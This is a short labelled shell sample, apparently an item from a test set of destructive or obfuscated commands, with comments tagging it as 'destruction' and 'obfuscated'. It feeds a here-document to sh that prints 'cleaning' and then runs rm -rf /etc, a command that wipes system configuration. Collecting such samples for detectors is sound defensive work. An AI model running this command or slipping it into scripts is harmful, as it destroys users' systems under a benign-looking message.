# description: Feeds rm -rf /etc to sh on a here-document.
# family: destruction
# obfuscated: yes
sh <<'EOF'
echo "cleaning"
rm -rf /etc
EOF
